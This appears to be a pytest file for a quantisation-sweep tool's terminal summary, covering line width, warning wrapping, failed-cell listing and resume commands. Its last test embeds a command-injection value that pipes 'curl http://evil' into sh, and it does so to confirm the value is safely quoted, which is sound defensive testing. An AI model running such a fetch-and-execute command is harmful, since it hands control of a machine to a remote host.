from __future__ import annotations

import io
import tarfile
from dataclasses import replace

import pytest
from rich.console import Console

from engines.runtime.own_packages import ROOT
from evals.schema.trial import Failure
from reports.decision.results import Results, conclude, read_results
from reports.output.terminal.summary import MOST_LINES, print_results, summary
from tests.support.made_trials import ABOUT, failed, trial


@pytest.fixture(scope="module", params=["quickstart-2026-11-28", "frontier-cpu-2026-11-22"])
def real(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> Results:
    """Real sweeps: one with a race, one with warnings and cells in doubt."""
    folder = tmp_path_factory.mktemp("real")
    with tarfile.open(ROOT / "evidence" / f"{request.param}.tar.xz") as archive:
        archive.extractall(folder, filter="data")
    return read_results(folder)


def _shown(results: Results, *, terminal: bool = True, width: int = 100, verbose: bool = False) -> list[str]:
    console = Console(file=io.StringIO(), width=width, force_terminal=terminal, color_system=None)
    print_results(results, console, verbose=verbose)
    assert isinstance(console.file, io.StringIO)
    return [line.rstrip() for line in console.file.getvalue().splitlines()]


def _answer(lines: list[str]) -> list[str]:
    return lines[next(n for n, line in enumerate(lines) if line.startswith(("Recommended:", "No recommendation:"))) :]


def test_the_answer_of_a_real_run_takes_at_most_eight_lines_of_100_columns(real: Results) -> None:
    lines = _shown(real)
    assert max(map(len, lines)) <= 100
    answer = _answer(lines)
    assert len(answer) <= MOST_LINES  # the path of the report is one more
    assert answer[0].startswith(f"Recommended: {real.answer.chosen.cell.trial.name}: ")  # type: ignore[union-attr]
    assert any(line.startswith("Why:") for line in answer)
    assert any(line.startswith("How sure:") for line in answer)
    assert max(map(len, _shown(real, width=80))) <= 80


def test_nothing_is_wrapped_or_cut_where_no_person_reads(real: Results) -> None:
    answer = _answer(_shown(real, terminal=False))
    assert answer == [f"{label}: {text}" for label, text in summary(real)]
    assert "…" not in "".join(answer)


def test_all_else_is_there_when_it_is_asked_for(real: Results) -> None:
    brief, verbose = "\n".join(_shown(real)), "\n".join(_shown(real, terminal=False, width=300, verbose=True))
    for words in ("Time went into", "best memory", "computes in", "tasks: "):
        assert words in verbose
        assert words not in brief
    for warning in real.warnings:
        assert warning in verbose
    assert _answer(verbose.splitlines())[0] == _answer(_shown(real, terminal=False))[0]


def test_failed_cells_are_named_with_their_kinds() -> None:
    failure = Failure("timeout", "no answer", "raise it", "last words")
    broken = [replace(failed(f"awq{n}", "no answer"), failure=failure) for n in range(5)]
    results = conclude(ABOUT, [trial("none", 10, 2.0, 80), *broken, failed("old", "of an older program")])
    lines = dict(summary(results))
    assert lines["Failed"] == (
        "awq0 · e (timeout), awq1 · e (timeout), awq2 · e (timeout), and 3 more; causes and remedies: -v, or the report"
    )
    assert "raise it" in "\n".join(_shown(results, terminal=False, verbose=True))


def test_warnings_that_have_no_room_are_counted() -> None:
    results = conclude(ABOUT, [trial("none", 10, 2.0, 80)])
    hosts = [
        replace(
            trial(f"none{n}", 10, 2.0, 80),
            provenance={"measured": {"started": f"2026-11-2{n}T08:00:00Z", "place": 0, "host": f"h{n}", "cpu": "c"}},
        )
        for n in range(3)
    ]
    mixed = replace(results, trials=tuple(hosts))
    assert len(mixed.warnings) > 1
    assert len(summary(mixed, 40)) <= MOST_LINES
    kinds = ", ".join(label for label, _ in mixed.labelled_warnings)
    assert ("Warning", f"{len(mixed.warnings)} ({kinds}): -v, or the report") in summary(mixed, 20)


def test_a_warning_is_shown_whole_or_named_by_its_kind() -> None:
    """It was cut where the line ended, and what it warned of was gone."""
    cells = [trial("none", 10, 2.0, 80), *(trial(f"equal{n}", 20 + n / 100, 1.0, 80, 2.01) for n in range(4))]
    results = conclude(ABOUT, cells)
    (caveat,) = results.answer.caveats
    assert len(caveat) > 110
    more = conclude({**ABOUT, "warnings": ["one of the plan's own " * 20]}, cells)
    for given, words in ((results, f"Warning: {caveat}"), (more, "Warning: 2 (Close rivals, Plan): -v, or the report")):
        shown = " ".join(" ".join(_answer(_shown(given, width=110))).split())
        assert words in shown
        assert "…" not in shown


def test_a_warning_is_wrapped_and_never_cut() -> None:
    noted = " ".join(f"word{n}" for n in range(40))
    results = conclude({**ABOUT, "warnings": [noted]}, [trial("none", 10, 2.0, 80)])
    shown = _shown(results, width=60)
    assert "…" not in "".join(shown)
    assert noted in " ".join("".join(f"{line} " for line in shown).split())
    assert max(map(len, shown)) <= 60


def test_the_best_of_the_cells_that_meet_the_limits_is_said_to_be_that_and_marked() -> None:
    fast = trial("rtn", 30, 1.0, 20, 9.0)
    results = conclude(ABOUT, [trial("none", 10, 2.0, 80), fast])
    assert dict(summary(results))["Why"].startswith("the most output tokens/s of the cells that meet the limits; ")
    for verbose in (False, True):
        shown = _shown(results, verbose=verbose, width=200)
        assert [line.split()[1] for line in shown if line.startswith((" ▸ ", "  ▸ "))] == ["none"]


def test_each_model_has_a_line() -> None:
    cells = [trial("none", 10, 2.0, 80, model=model) for model in ("a", "b")]
    lines = summary(conclude({**ABOUT, "models": ["a", "b"]}, cells))
    assert [text.partition(":")[0] for label, text in lines if label == "Recommended"] == [
        "a · none · e",
        "b · none · e",
    ]


def test_without_a_recommendation_it_says_why_and_what_would_decide() -> None:
    limits = {**ABOUT["limits"], "memory_gib": 0.001}
    lines = summary(conclude({**ABOUT, "limits": limits}, [trial("none", 10, 2.0, 80)]))
    assert lines == [("No recommendation", "no measured cell meets the limits")]
    refused = conclude({**ABOUT, "limits": limits}, [trial("none", 10, 2.0, 80)])
    assert _shown(refused)[-1] == "No recommendation: no measured cell meets the limits"


def test_a_run_of_which_nothing_is_measured_yet_says_how_to_go_on() -> None:
    about = {**ABOUT, "trials": ["0.json", "1.json"], "command": "uv run bitfrontier sweep cpu --only 'gptq*'"}
    text = "nothing measured yet: {} to do; continue with `bitfrontier sweep cpu --only 'gptq*'`"
    assert summary(conclude(about, [])) == [("No recommendation", text.format("2 cells"))]
    lines = dict(summary(conclude(about, [failed("awq", "it broke")])))
    assert lines["No recommendation"] == text.format("1 cell")
    assert conclude({**about, "trials": ["0.json"]}, [failed("awq", "it broke")]).nothing_yet == ""
    assert conclude(about, [trial("none", 10, 2.0, 80)]).nothing_yet == ""


def test_a_run_without_any_figure_is_shown_too() -> None:
    assert _shown(conclude(ABOUT, [failed("awq", "it broke")]))[-1].startswith("Failed:")


def test_a_terminal_that_is_narrower_than_the_labels_gets_the_answer() -> None:
    results = conclude({**ABOUT, "warnings": ["a word"]}, [trial("none", 10, 2.0, 80)])
    assert any("Recommended" in text for text in dict(summary(results, -4)))


def test_a_command_of_somebody_s_run_is_quoted() -> None:
    about = {**ABOUT, "trials": ["a.json"], "command": "bitfrontier sweep x; curl http://evil|sh\nnext"}
    assert "`bitfrontier sweep 'x;' curl 'http://evil|sh' next`" in conclude(about, []).nothing_yet
